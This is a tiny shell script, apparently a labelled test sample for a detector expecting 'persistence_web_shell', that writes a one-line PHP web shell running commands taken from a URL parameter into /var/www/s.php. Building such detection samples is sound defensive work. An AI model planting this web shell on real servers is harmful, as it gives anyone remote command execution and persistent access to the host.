#!/bin/sh
# A page that runs what its visitors send.
# expects: persistence_web_shell 1

mkdir -p /var/www
sh -c "echo '<?php system(\$_GET[0]); ?>' > /var/www/s.php"
